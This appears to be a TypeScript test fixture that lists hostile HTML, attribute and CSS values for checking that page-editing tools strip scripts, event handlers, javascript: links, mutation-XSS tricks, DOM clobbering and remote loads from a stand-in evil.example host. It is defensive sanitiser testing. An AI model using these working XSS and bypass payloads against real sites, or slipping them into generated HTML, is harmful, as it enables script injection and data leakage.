// T-20: what somebody would have a model do to a page. Each piece of HTML would do harm as it is; none of it may
// run, load, leave the page, or hide anything of the document once the tools let it in.

const bad = 'http://evil.example/x'

/** Pieces of HTML, by what they try. Whatever runs sets `__pwned`. */
export const hostileHtml: Readonly<Record<string, string>> = {
  'a script': '<script>__pwned=1</script>',
  'a script in capitals with a slash': '<ScRiPt/x>__pwned=1</sCrIpT >',
  'a script in SVG': '<svg><script>__pwned=1</script></svg>',
  'a script in SVG, by href': `<svg><script href="data:,__pwned=1"/></svg>`,
  'a script behind a byte order mark': '\uFEFF<script>window.__pwned=1</script>',
  'an event attribute': '<img src=x onerror=__pwned=1>',
  'an event attribute in odd case': '<img src=x oNeRRoR="__pwned=1">',
  'an event attribute behind a slash': '<img/src=x/onerror=__pwned=1>',
  'an event attribute behind a form feed': '<img src=x\fonerror=__pwned=1>',
  'an event attribute of SVG': '<svg onload=__pwned=1><g onload=__pwned=1></g></svg>',
  'an event attribute of an animation':
    '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s></svg>',
  'an event attribute of details': '<details open ontoggle=__pwned=1>x</details>',
  'focus that is taken': '<input autofocus onfocus=__pwned=1>',
  'an animation that sets an address':
    '<svg><a><animate attributeName=href values=javascript:__pwned=1 /><text>x</text></a></svg>',
  'a set that sets an address':
    '<svg><a id=q1><set attributeName=href to=javascript:__pwned=1 /></a></svg>',
  'a use of elsewhere': `<svg><use href="${bad}#x"/><use xlink:href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
  'an image of SVG from elsewhere': `<svg><image href="${bad}"/><feImage href="${bad}"/></svg>`,
  'HTML in SVG': '<svg><foreignObject><img src=x onerror=__pwned=1></foreignObject></svg>',
  'a link that runs': '<a href="javascript:__pwned=1">x</a>',
  'a link that runs, in odd case': '<a href="JaVaScRiPt:__pwned=1">x</a>',
  'a link that runs, with a tab': '<a href="java\tscript:__pwned=1">x</a>',
  'a link that runs, with a line break by entity':
    '<a href="java&#10;script&colon;__pwned=1">x</a>',
  'a link that runs, behind control characters': '<a href="&#1;&#x1f; javascript:__pwned=1">x</a>',
  'a link that runs, by entities': '<a href="&#106;&#97&#118;ascript:__pwned=1">x</a>',
  'a link that runs in SVG': '<svg><a xlink:href="javascript:__pwned=1"><text>x</text></a></svg>',
  'a link of vbscript': '<a href="vbscript:x">x</a>',
  'a link of data': '<a href="data:text/html,<script>__pwned=1</script>">x</a>',
  'a link of a blob': '<a href="blob:http://evil.example/x">x</a>',
  'a ping': `<a href="/x" ping="${bad}">x</a>`,
  'a frame': `<iframe src="${bad}"></iframe>`,
  'a frame with its document': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>__pwned=1</script>"></object>',
  'an embed': `<embed src="${bad}">`,
  'an applet and a portal': `<applet code="${bad}"></applet><portal src="${bad}"></portal>`,
  'an image from elsewhere': `<img src="${bad}">`,
  'an image from elsewhere without a scheme': '<img src="//evil.example/x">',
  'an image from elsewhere with backslashes':
    '<img src="\\\\evil.example/x"><img src="/\\evil.example/x">',
  'an image from elsewhere in a set': `<img srcset="/a 1x, ${bad} 2x"><picture><source srcset="${bad}"><img></picture>`,
  'a poster and a source': `<video poster="${bad}"><source src="${bad}"></video><audio src="${bad}"></audio>`,
  'a background': `<table background="${bad}"><tr><td background="${bad}">x</td></tr></table>`,
  'an image of SVG as data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>">`,
  'a style element': `<style>@import "${bad}"; *{background:url(${bad})}</style>`,
  'a style in SVG': `<svg><style>*{background:url(${bad})}</style></svg>`,
  'a style with an address': `<p style="background:url(${bad})">x</p>`,
  'a style with an address by escapes': `<p style="background:\\75rl(${bad})">x</p>`,
  'a style with a set of images': `<p style="background:image-set('${bad}' 1x)">x</p>`,
  'a style with quotation marks that deceive': `<p style="background:url('(' url(${bad}) ')')">x</p>`,
  'a style with an address behind a comment': `<p style="background:/**/url/**/(${bad}),url(${bad})">x</p>`,
  'a style with an address in a variable': `<p style="--x:url(${bad});background:var(--x)">x</p>`,
  'a style that binds':
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#y);width:expression(alert(1))">x</p>',
  'a paint of SVG from elsewhere': `<svg><path fill="url(${bad}#a)" filter="url(${bad}#b)" d="M0 0"/></svg>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=javascript:__pwned=1">`,
  'a base': `<base href="${bad}">`,
  'a link element': `<link rel=stylesheet href="${bad}"><link rel=prefetch href="${bad}">`,
  'a form that leaves': `<form action="${bad}"><input name=a></form>`,
  'a button that leaves': `<button formaction="javascript:__pwned=1" form="order">x</button>`,
  'an input that is an image': `<input type=image src="${bad}">`,
  'a field for a password': '<input type=password name=x><input type=PASSWORD name=y>',
  'a hidden field': '<input type=hidden name=a value=b>',
  'a field named like a token': '<input name=csrf_token value=b>',
  'a template': '<template><script>__pwned=1</script></template>',
  'a template with a shadow root':
    '<div><template shadowrootmode=open><script>__pwned=1</script></template></div>',
  'names of the document':
    '<a id=location></a><img name=cookie><a id=getElementById></a><form name=body></form>',
  'names of a form':
    '<form id=f1><input name=attributes><input id=parentNode><input name=submit></form>',
  'names in two steps': '<form id=defaultView><input id=alert name=alert></form>',
  'a name of the prototype': '<a id=__proto__></a><input name=constructor>',
  'noscript that becomes something':
    '<noscript><p title="</noscript><img src=x onerror=__pwned=1>"></noscript>',
  'a style in a comment of SVG': '<svg></p><style><a id="</style><img src=1 onerror=__pwned=1>">',
  'a style in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">',
  'forms in forms of MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned=1>',
  'a title of SVG':
    '<svg><title><style><img title="</style><img src=x onerror=__pwned=1>"></title></svg>',
  'a desc of SVG': '<svg><desc><noscript><img src=x onerror=__pwned=1></noscript></desc></svg>',
  'an annotation':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__pwned=1></style></annotation-xml></math>',
  'text that is no text':
    '<xmp><img src=x onerror=__pwned=1></xmp><plaintext><img src=x onerror=__pwned=1>',
  'old frames without frames':
    '<noembed><img src=x onerror=__pwned=1></noembed><noframes></noframes><img src=x onerror=__pwned=1>',
  'a textarea that ends': '<textarea></textarea><img src=x onerror=__pwned=1></textarea>',
  'a select that holds':
    '<select><template><img src=x onerror=__pwned=1></template><script>__pwned=1</script></select>',
  'a comment that ends':
    '<!--><img src=x onerror=__pwned=1>--><!--!><img src=x onerror=__pwned=1>-->',
  CDATA: '<svg><![CDATA[><img src=x onerror=__pwned=1>]]></svg>',
  'an attribute of a library':
    '<div data-ng-init="x" data-hx-get="/x" data-action="click->a#b" x-data="y" hx-get="/z" @click="z">x</div>',
  'attributes without a value':
    '<img src onerror><input autofocus contenteditable popover><p onclick srcdoc "=x>x</p>',
  'a custom element': '<x-app onclick=__pwned=1 is=x></x-app>',
}

/** Attributes to set, by what they try: the element, and the attributes. */
export const hostileAttributes: Readonly<
  Record<string, readonly [string, Record<string, string>]>
> = {
  'an event': ['#card-1', { onclick: '__pwned=1' }],
  'an event in capitals': ['#card-1', { ONCLICK: '__pwned=1' }],
  'an event with a space': ['#card-1', { 'onclick ': '__pwned=1' }],
  'an event of SVG': ['#icon', { onload: '__pwned=1' }],
  'a link that runs': ['#links a[href="/a"]', { href: 'java\nscript:__pwned=1' }],
  'a link of data': ['#links a[href="/a"]', { href: ' data:text/html,x' }],
  'an action': ['#order', { action: bad }],
  'a type that hides': ['#amount', { type: 'Hidden' }],
  'a type of a password': ['#amount', { type: 'password' }],
  'a name of a token': ['#amount', { name: 'csrf' }],
  'a name of the form': ['#amount', { name: 'action' }],
  'an id of the document': ['#card-1', { id: 'cookie' }],
  'an id of another element': ['#card-1', { id: 'top' }],
  'an id that is no name': ['#card-1', { id: 'a"><img src=x onerror=__pwned=1>' }],
  'a document of a frame': ['#card-1', { srcdoc: 'x' }],
  'a style that loads': ['#card-1', { style: `background:url(${bad})` }],
  'a style that loads by escapes': ['#card-1', { style: `background:u\\72l(${bad})` }],
  'an attribute that ends': ['#card-1', { 'title="x" onclick': '__pwned=1' }],
  'a namespace': ['#icon', { 'xlink:href': 'javascript:__pwned=1' }],
  'a paint from elsewhere': ['#icon path', { fill: `url(${bad})` }],
  'a nonce': ['#card-1', { nonce: 'x' }],
  'a part of an app': ['#card-1', { is: 'x-y', slot: 'z', contenteditable: 'true' }],
  'a prototype': ['#card-1', { __proto__x: 'y' }],
}

/** Values of styles, by what they try. */
export const hostileStyles: Readonly<Record<string, Record<string, string>>> = {
  'an address': { background: `url(${bad})` },
  'an address without a scheme': { background: 'url(//evil.example/x)' },
  'an address in quotation marks': { 'background-image': `url( "${bad}" )` },
  'an address by escapes': { background: `\\75\\72\\6c(${bad})` },
  'a set of images': { background: `image-set("${bad}" 1x)` },
  'a cross-fade': { background: `cross-fade(url(${bad}), red)` },
  'two declarations': { color: `red; background: url(${bad})` },
  'an end of the attribute': { color: 'red"><img src=x onerror=__pwned=1>' },
  'an import': { color: `red} @import "${bad}"; {` },
  'an expression': { width: 'expression(__pwned=1)' },
  'an expression in odd case': { width: 'eXpReSsIoN(__pwned=1)' },
  'a behaviour': { behavior: 'url(x.htc)' },
  'a binding': { '-moz-binding': 'url(x.xml#y)' },
  'a variable that loads': { '--x': `url(${bad})` },
  'a variable that is an address': { '--x': `"${bad}"` },
  'a property that is none': { 'color:red;background': `url(${bad})` },
  'script in an address': { background: 'url(javascript:__pwned=1)' },
  'data in an address': { background: 'url(data:text/html,x)' },
  'a comment': { color: 'red/**/' },
  'a cursor': { cursor: `url(${bad}), auto` },
  'a list of marks': { 'list-style': `url(${bad})` },
  'a filter': { filter: `url(${bad}#x)` },
  'a source': { background: `src("${bad}")` },
}
